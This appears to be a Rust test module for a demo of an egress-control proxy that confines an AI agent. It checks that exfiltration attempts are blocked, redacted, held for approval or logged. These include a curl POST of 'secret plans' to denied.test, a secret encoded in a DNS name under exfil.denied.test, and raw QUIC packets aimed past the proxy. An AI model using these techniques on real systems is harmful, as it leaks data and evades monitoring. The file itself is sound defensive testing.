//! What the demo's agent tries, and how it is judged: by the origin, the DNS server and the capture.

use std::net::IpAddr;

use anyhow::Result;
use serde_json::{Value, json};

use super::{AGENT, Attempt};
use crate::lab::wiring::address;
use crate::lab::{AgentCommand, Answer, Daemon, Lab, Outcome};

const SSN: &str = "536-22-8741";
const MAIL: &str = "jane.doe@example.com";

pub(super) fn all(lab: &Lab, daemon: &Daemon) -> Result<Vec<Attempt>> {
    Ok(vec![
        allowed(lab)?,
        denied_host(lab)?,
        redacted(lab)?,
        refused_udp(lab)?,
        refused_name(lab)?,
        shadowed(lab, daemon)?,
        approval(lab)?,
        audit(lab, daemon)?,
    ])
}

/// The demo's agent, an ordinary user of the system.
fn agent(lab: &Lab) -> AgentCommand<'_> {
    lab.agent(AGENT).user("nobody")
}

fn curl(lab: &Lab, arguments: &[&str]) -> Result<Answer> {
    let answer = agent(lab).curl(arguments)?;
    lab.settle()?;
    Ok(answer)
}

/// Packets that went to an address, whatever they carried.
fn packets_to(lab: &Lab, host: &str) -> usize {
    let (v4, v6) = address(host);
    let addresses = [IpAddr::V4(v4), IpAddr::V6(v6)];
    lab.internet.capture.matching(|packet| addresses.contains(&packet.destination)).len()
}

fn allowed(lab: &Lab) -> Result<Attempt> {
    let answer = curl(lab, &["https://api.allowed.test/hello"])?;
    let seen = lab.internet.requests.at("api.allowed.test");
    let kept = answer.status == 200 && answer.body.starts_with("hello from api.allowed.test") && seen.len() == 1;
    let outside = seen.first().map_or("nothing".to_owned(), |request| {
        format!(
            "origin: {} {} over {}, SNI {}",
            request.method,
            request.path,
            protocol(request.alpn.as_deref()),
            request.authority
        )
    });
    Ok(Attempt { tried: "curl https://api.allowed.test/hello".to_owned(), got: answer.summary(), outside, kept })
}

fn protocol(alpn: Option<&str>) -> &str {
    alpn.unwrap_or("plain HTTP")
}

/// The address is given to curl, so that the refusal is the proxy's and not only the name server's.
fn denied_host(lab: &Lab) -> Result<Attempt> {
    let resolve = format!("denied.test:443:{}", address("denied.test").0);
    let answer = curl(lab, &["--resolve", &resolve, "https://denied.test/upload", "-d", "secret plans"])?;
    let packets = packets_to(lab, "denied.test");
    let kept = answer.is_denial() && !answer.field("decision_id").is_empty() && packets == 0;
    Ok(Attempt {
        tried: "curl https://denied.test/upload -d 'secret plans'  (its own address for it)".to_owned(),
        got: answer.summary(),
        outside: format!("{packets} packets to that host"),
        kept,
    })
}

fn redacted(lab: &Lab) -> Result<Attempt> {
    let sent = json!({"note": format!("SSN {SSN}, mail {MAIL}"), "amount": 12}).to_string();
    let program = format!(
        "import urllib.request\n\
         request = urllib.request.Request('https://api.allowed.test/echo', data={sent:?}.encode(), \
         headers={{'content-type': 'application/json'}})\n\
         answer = urllib.request.urlopen(request, timeout=15)\n\
         print(answer.status)"
    );
    let outcome = agent(lab).python(&program)?;
    let seen = lab.internet.requests.at("api.allowed.test").pop().unwrap_or_default();
    let text = seen.text();
    let received: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
    let masked = received.get("note") == Some(&json!("SSN [SSN], mail [EMAIL]"));
    let clean = !text.contains(SSN) && !text.contains(MAIL) && received.get("amount") == Some(&json!(12));
    Ok(Attempt {
        tried: format!("Python POSTs {sent}"),
        got: last_line(&outcome),
        outside: format!("origin received {text}"),
        kept: outcome.ok() && masked && clean && seen.method == "POST" && seen.complete,
    })
}

fn refused_udp(lab: &Lab) -> Result<Attempt> {
    // The first byte of a QUIC long header, so that it looks like what a browser would send.
    let program = format!(
        "import socket\n\
         for family, to in ((socket.AF_INET, '{}'), (socket.AF_INET6, '{}')):\n\
         \x20   s = socket.socket(family, socket.SOCK_DGRAM)\n\
         \x20   try:\n\
         \x20       s.sendto(b'\\xc3\\x00\\x00\\x00\\x01demo-quic-marker' + bytes(1180), (to, 443)); print('sent')\n\
         \x20   except OSError as error:\n\
         \x20       print(error)",
        address("api.allowed.test").0,
        address("api.allowed.test").1
    );
    let outcome = agent(lab).python(&program)?;
    lab.settle()?;
    let packets = lab.internet.capture.matching(|packet| packet.contains(b"demo-quic-marker")).len();
    let refused = outcome.stdout.lines().count() == 2 && !outcome.stdout.contains("sent");
    Ok(Attempt {
        tried: "Python sends QUIC datagrams straight to UDP/443 of an allowed host, IPv4 and IPv6".to_owned(),
        got: last_line(&outcome),
        outside: format!("{packets} packets"),
        kept: packets == 0 && refused,
    })
}

fn refused_name(lab: &Lab) -> Result<Attempt> {
    let name = "c2VjcmV0.exfil.denied.test";
    let outcome = lab.agent(AGENT).python(&format!("import socket\nsocket.getaddrinfo('{name}', 443)"))?;
    lab.settle()?;
    let queries = lab.internet.queries.count("exfil");
    let packets = lab.internet.capture.matching(|packet| packet.contains(b"exfil")).len();
    Ok(Attempt {
        tried: format!("Python looks up {name}  (a secret in a name)"),
        got: last_line(&outcome),
        outside: format!("{queries} queries at the DNS server, {packets} packets"),
        kept: !outcome.ok() && queries == 0 && packets == 0,
    })
}

fn shadowed(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
    let answer = curl(lab, &["https://shadow.allowed.test/hello"])?;
    let seen = lab.internet.requests.at("shadow.allowed.test").len();
    let record =
        daemon.record(|record| field(record, "host") == "shadow.allowed.test" && field(record, "path") == "/hello")?;
    let would = format!("recorded: {} in mode {}", field(&record, "decision"), field(&record, "mode"));
    Ok(Attempt {
        tried: "curl https://shadow.allowed.test/hello  (a rule in shadow mode)".to_owned(),
        got: format!("{}; {would}", answer.summary()),
        outside: format!("origin: {seen} request"),
        kept: answer.status == 200
            && seen == 1
            && field(&record, "decision") == "deny"
            && field(&record, "mode") == "shadow",
    })
}

fn approval(lab: &Lab) -> Result<Attempt> {
    let url = "https://payments.allowed.test/v1/charges";
    let headers = ["-H", "content-type: application/json", "-d", r#"{"amount": 9000}"#, url];
    let answer = curl(lab, &headers)?;
    let seen = lab.internet.requests.at("payments.allowed.test").len();
    let id = answer.field("approval_id");
    Ok(Attempt {
        tried: format!(r#"curl {url} -d '{{"amount": 9000}}'  (the limit is 5000)"#),
        got: format!("{}, approval_id {id}", answer.summary()),
        outside: format!("origin: {seen} requests"),
        kept: answer.is_denial() && !id.is_empty() && seen == 0,
    })
}

/// The chain holds; and in a copy with one letter changed it does not.
fn audit(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
    let records = daemon.records()?;
    let outcome = lab.ctl(&["audit", "verify"])?;
    let text = std::fs::read_to_string(lab.path("state").join("audit/audit.jsonl"))?;
    let copy = lab.path("home").join("forged.jsonl");
    std::fs::write(&copy, text.replacen("denied.test", "benign.test", 1))?;
    let forged = lab.ctl(&["audit", "verify", &copy.to_string_lossy()])?;
    let names = records.iter().filter(|record| field(record, "scheme") == "dns").count();
    Ok(Attempt {
        tried: "the operator runs aegisctl audit verify, then again on a copy with one word changed".to_owned(),
        got: format!("{}\nthe copy: {}", first_line(&outcome), first_line(&forged)),
        outside: format!("{} records, {names} of them for names; one for each decision", records.len()),
        kept: outcome.ok() && forged.code == 1 && records.len() - names >= 6,
    })
}

fn field<'a>(record: &'a Value, name: &str) -> &'a str {
    record.get(name).and_then(Value::as_str).unwrap_or_default()
}

/// What a verdict begins with.
fn first_line(outcome: &Outcome) -> String {
    let text = if outcome.stdout.trim().is_empty() { &outcome.stderr } else { &outcome.stdout };
    text.trim().lines().next().unwrap_or_default().to_owned()
}

/// What a person would look at: the last line that was written.
fn last_line(outcome: &Outcome) -> String {
    let text = if outcome.stdout.trim().is_empty() { &outcome.stderr } else { &outcome.stdout };
    text.trim().lines().last().unwrap_or_default().to_owned()
}
